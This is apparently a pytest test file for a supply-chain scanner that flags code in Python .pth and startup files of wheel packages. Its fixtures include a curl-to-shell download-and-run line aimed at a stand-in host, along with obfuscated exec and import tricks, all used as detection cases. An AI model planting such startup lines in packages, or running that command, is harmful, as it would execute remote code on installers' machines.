"""What runs at every start of Python: told mildly when it only calls the artifact's own modules, plainly else."""

from __future__ import annotations

from hashlib import sha256

import pytest

from scanner.analyzers.startup import startup
from scanner.model import ArtifactMetadata, MemberName, Role, Sha256Hex
from scanner.roles import roles
from scanner.ruleset import Ruleset
from scanner.view import ArtifactView, MemberView

OWN = ("hook/__init__.py", "_distutils_hack/__init__.py", "coverage/__init__.py", "os.py")


@pytest.fixture(scope="module")
def ruleset() -> Ruleset:
    return Ruleset.load()


def _view(members: dict[str, str | bytes], *, is_wheel: bool = True) -> ArtifactView:
    data = {MemberName(n): d.encode() if isinstance(d, str) else d for n, d in members.items()}
    assigned = roles(list(data), data.__getitem__, is_wheel=is_wheel)
    views = {
        name: MemberView(
            name, text, Sha256Hex(sha256(text).hexdigest()), assigned[name], is_python=name.endswith(".py")
        )
        for name, text in data.items()
    }
    return ArtifactView("p-1-py3-none-any.whl", is_wheel, ArtifactMetadata(), views, assigned)


def _told(ruleset: Ruleset, text: str | bytes, name: str = "p.pth") -> list[str]:
    view = _view({name: text, **dict.fromkeys(OWN, "")})
    return [finding.rule for finding in startup(view, ruleset) if finding.rule.startswith("startup-")]


HARMLESS = {
    "module of its own": "import hook\n",
    "module of its own, called": "import hook; hook.install()\n",
    "editable finder": "import hook; hook.x.install('y')\n",
    "distutils": (
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
        "enabled and __import__('_distutils_hack').add_shim(); \n"
    ),
    "coverage": "import sys; exec('try: import coverage; coverage.process_startup()\\nexcept ImportError: pass')\n",
    "coverage asks the environment": (
        'import sys; exec(\'import os\\n\\nif os.getenv("A") or os.getenv("B"):\\n try:\\n  import coverage\\n '
        'except:\\n  pass\\n else:\\n  coverage.process_startup(slug="pth")\')\n'
    ),
    "namespace package": (
        "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1)."
        "f_locals['sitedir'], *('google',));importlib = has_mfs and __import__('importlib.util');"
        "has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('google', "
        "importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));"
        "m = m or sys.modules.setdefault('google', types.ModuleType('google'));"
        "mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
    ),
}

PLAIN = {
    "foreign module": "import requests\n",
    "process": "import os; os.system('echo marker')\n",
    "executed text": "import os; exec('import os; os.system(\"echo marker\")')\n",
    "executed text in executed text": "import hook; exec('exec(\"exec(\\'1\\')\")')\n",
    "own module and more": "import hook, subprocess; subprocess.run(['x'])\n",
    "own module by getattr": "import hook; getattr(hook, 'x')()\n",
    "import of a computed name": "import hook; __import__('o' + 's')\n",
    "a tab after import": "import\tsocket; socket.socket()\n",
    "own module that is called like one of the library": "import os; os.popen('x')\n",
    "lambda": "import hook; (lambda: 1)()\n",
    "comprehension": "import hook; [hook.x(i) for i in range(3)]\n",
    "no Python": "import hook; = =\n",
    "changed namespace form": "import sys, types, os;p = os.path.join('x', *('google',));os.remove(p)\n",
    "walrus": "import hook; (os := hook).system('x')\n",
    "attribute of builtins": "import hook; __builtins__['ex' + 'ec']('1')\n",
}


@pytest.mark.parametrize("line", HARMLESS.values(), ids=HARMLESS.keys())
def test_a_line_that_only_calls_own_modules_is_told_mildly(line: str, ruleset: Ruleset) -> None:
    assert _told(ruleset, line) == ["startup-import"]


@pytest.mark.parametrize("line", PLAIN.values(), ids=PLAIN.keys())
def test_any_other_code_is_told_plainly(line: str, ruleset: Ruleset) -> None:
    assert _told(ruleset, line) == ["startup-code"]


@pytest.mark.parametrize("text", ["", "# import os\n", "lib/sub\n../other\n", " import os\n", "importx\n", "\n\n"])
def test_paths_and_comments_are_no_code(text: str, ruleset: Ruleset) -> None:
    assert _told(ruleset, text) == []


@pytest.mark.parametrize(
    ("line", "rule"),
    [("hook:run\n", "startup-import"), ("hook.sub:run.it\n", "startup-import"), ("os:system\n", "startup-code")],
)
def test_lines_of_start_files_name_functions(line: str, rule: str, ruleset: Ruleset) -> None:
    assert _told(ruleset, line, "p.start") == [rule]


def test_a_chain_in_a_line_is_found_on_that_line(ruleset: Ruleset) -> None:
    text = "lib\n# x\nimport os; os.system('curl https://host.invalid | sh')\n"
    found = list(startup(_view({"p.pth": text}), ruleset))
    assert [(f.rule, f.line, f.role) for f in found] == [
        ("startup-code", 3, Role.STARTUP),
        ("shell-command-with-download", 3, Role.STARTUP),
        ("process-at-import", 3, Role.STARTUP),
    ]


def test_bytes_that_are_no_utf_8_are_read_as_the_locale_would(ruleset: Ruleset) -> None:
    assert _told(ruleset, b"import socket; x = '\xff'\n") == ["startup-code"]


def test_a_byte_order_mark_hides_no_line(ruleset: Ruleset) -> None:
    assert _told(ruleset, b"\xef\xbb\xbfimport socket\n") == ["startup-code"]


def test_a_customiser_at_the_root_is_told(ruleset: Ruleset) -> None:
    found = startup(_view({"sitecustomize.py": "", "p/usercustomize.py": ""}), ruleset)
    assert [(f.rule, f.member) for f in found] == [("startup-module", "sitecustomize.py")]


def test_a_path_file_that_is_not_installed_at_the_root_never_runs(ruleset: Ruleset) -> None:
    found = startup(_view({"p/sub/x.pth": "import socket\n"}), ruleset)
    assert {f.role for f in found} == {Role.NEVER}


def test_a_path_file_without_end_is_told(ruleset: Ruleset) -> None:
    assert "startup-code" in _told(ruleset, "x\n" * 5_000)
